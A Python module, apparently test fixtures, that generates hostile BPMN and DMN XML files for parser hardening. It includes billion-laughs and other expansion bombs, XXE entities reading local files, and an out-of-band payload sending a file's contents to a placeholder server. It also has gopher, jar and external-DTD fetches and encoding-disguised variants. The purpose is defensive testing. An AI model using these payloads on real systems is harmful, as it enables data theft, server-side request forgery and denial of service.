"""Files written to hurt whoever reads them: bombs, and entities that point to what is not theirs."""

from collections.abc import Mapping

ROOTS = {
    "bpmn": (
        '<b:definitions xmlns:b="http://www.omg.org/spec/BPMN/20100524/MODEL">{inside}'
        '<b:process id="p" name="{name}"><b:startEvent id="s"/><b:endEvent id="e"/>'
        '<b:sequenceFlow id="f" sourceRef="s" targetRef="e"/></b:process></b:definitions>'
    ),
    "dmn": (
        '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="{name}" '
        'namespace="n">{inside}<decision id="x" name="{name}"><variable name="{name}"/>'
        '<literalExpression id="l"><text>1</text></literalExpression></decision></definitions>'
    ),
}


def attacks(kind: str, secret: str, server: str) -> Mapping[str, bytes]:
    """Files by what they try. ``secret`` is a file they want, ``server`` an address they call."""
    root = ROOTS[kind]

    def file(name: str = "x", inside: str = "", *, before: str = "") -> bytes:
        return (before + root.replace("{name}", name).replace("{inside}", inside)).encode()

    def typed(subset: str, name: str = "x", inside: str = "") -> bytes:
        return file(name, inside, before=f"<!DOCTYPE definitions {subset}>")

    secret_url, laughs = f"file://{secret}", _laughs()
    plain = file().decode()
    return {
        # bombs
        "ten billion laughs": typed(f"[{laughs}]", "&l9;"),
        "laughs in text": typed(f"[{laughs}]", inside="<x>&l9;</x>"),
        "quadratic": typed(
            f'[<!ENTITY a "{"a" * 50_000}">]', inside="<x>" + "&a;" * 20_000 + "</x>"
        ),
        "an entity that holds itself": typed('[<!ENTITY a "&a;">]', "&a;"),
        "two that hold each other": typed('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
        "parameter laughs": typed(_parameter_laughs()),
        "a hundred thousand deep": file(inside="<x>" * 100_000 + "</x>" * 100_000),
        "never closed": ("<x>" * 300_000).encode(),
        "sixty thousand attributes": file(
            inside="<x " + " ".join(f'a{n}="1"' for n in range(60_000)) + "/>"
        ),
        "an attribute of two megabytes": file("n" * 1_990_000),
        "thousands of name spaces": file(
            inside="<x " + " ".join(f'xmlns:n{n}="u:{n}"' for n in range(30_000)) + "/>"
        ),
        "name spaces again at every depth": file(
            inside="".join(f'<x xmlns:n="u:{n}">' for n in range(200)) + "</x>" * 200
        ),
        "two hundred thousand siblings": file(inside="<x/>" * 200_000),
        "a comment without end": file(inside="<!--" + "-" * 1_000_000),
        "comments without number": file(inside="<!---->" * 200_000),
        "instructions without number": file(inside="<?x y?>" * 200_000),
        "data without end": file(inside="<![CDATA[" + "x" * 1_500_000),
        "references to letters": file(inside="<x>" + "&#65;" * 300_000 + "</x>"),
        "a name of a million letters": file(inside=f"<{'n' * 1_000_000}/>"),
        "more than may be sent": file(inside="<x/>" * 600_000),
        # entities that point elsewhere
        "a file as an entity": typed(f'[<!ENTITY a SYSTEM "{secret_url}">]', inside="<x>&a;</x>"),
        "a file in a name": typed(f'[<!ENTITY a SYSTEM "{secret_url}">]', "&a;"),
        "an address as an entity": typed(f'[<!ENTITY a SYSTEM "{server}">]', inside="<x>&a;</x>"),
        "an address with PUBLIC": typed(
            f'[<!ENTITY a PUBLIC "p" "{server}">]', inside="<x>&a;</x>"
        ),
        "definitions from elsewhere": typed(f'SYSTEM "{server}/evil.dtd"'),
        "definitions with PUBLIC": typed(f'PUBLIC "-//X" "{server}/evil.dtd"'),
        "a parameter from elsewhere": typed(f'[<!ENTITY % a SYSTEM "{server}/evil.dtd"> %a;]'),
        "a file sent away": typed(
            f'[<!ENTITY % f SYSTEM "{secret_url}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
            f"'{server}/?%f;'>\">%e; %s;]"
        ),
        "through gopher": typed('[<!ENTITY a SYSTEM "gopher://127.0.0.1:1/x">]', "&a;"),
        "through a jar": typed(f'[<!ENTITY a SYSTEM "jar:{server}/x.jar!/y">]', "&a;"),
        "a folder": typed('[<!ENTITY a SYSTEM "file:///etc/">]', inside="<x>&a;</x>"),
        "a device": typed('[<!ENTITY a SYSTEM "file:///dev/zero">]', inside="<x>&a;</x>"),
        "values by default": typed('[<!ATTLIST x a CDATA "planted">]', inside="<x/>"),
        "a notation": typed(f'[<!NOTATION n SYSTEM "{secret_url}">]'),
        "an entity that is not there": file(inside="<x>&nothing;</x>"),
        "included": file(
            inside=f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{secret_url}" '
            'parse="text"/>'
        ),
        "a style sheet": file(before=f'<?xml-stylesheet href="{server}/x.xsl" type="text/xsl"?>'),
        "a schema": file(
            inside='<x xmlns:i="http://www.w3.org/2001/XMLSchema-instance" '
            f'i:schemaLocation="u {server}/x.xsd"/>'
        ),
        # the same in disguise
        "in UTF-16": typed(f"[{laughs}]", "&l9;").decode().encode("utf-16"),
        "in UTF-16 without a mark": typed(f"[{laughs}]", "&l9;").decode().encode("utf-16-be"),
        "in UTF-32": typed(f"[{laughs}]", "&l9;").decode().encode("utf-32"),
        "in UTF-7": b'<?xml version="1.0" encoding="utf-7"?>'
        + typed(f"[{laughs}]", "&l9;").decode().encode("utf-7"),
        "in EBCDIC": f'<?xml version="1.0" encoding="cp037"?>{plain}'.encode("cp037"),
        "behind a mark": b"\xef\xbb\xbf" + typed(f"[{laughs}]", "&l9;"),
        "behind a comment": b"<!-- hello -->" + typed(f"[{laughs}]", "&l9;"),
        "behind blanks": b"\n" * 1000 + typed(f"[{laughs}]", "&l9;"),
        "in the new version of XML": b'<?xml version="1.1"?>' + typed(f"[{laughs}]", "&l9;"),
        "packed": _packed(),
    }


def _laughs() -> str:
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return "".join(lines)


def _parameter_laughs() -> str:
    lines = ["<!ENTITY % l0 'ha'>"]
    lines += [f"<!ENTITY % l{n} '{f'%l{n - 1};' * 10}'>" for n in range(1, 10)]
    return f"[{''.join(lines)} %l9;]"


def _packed() -> bytes:
    import gzip

    return gzip.compress(b"<x/>" * 10_000_000, compresslevel=1)
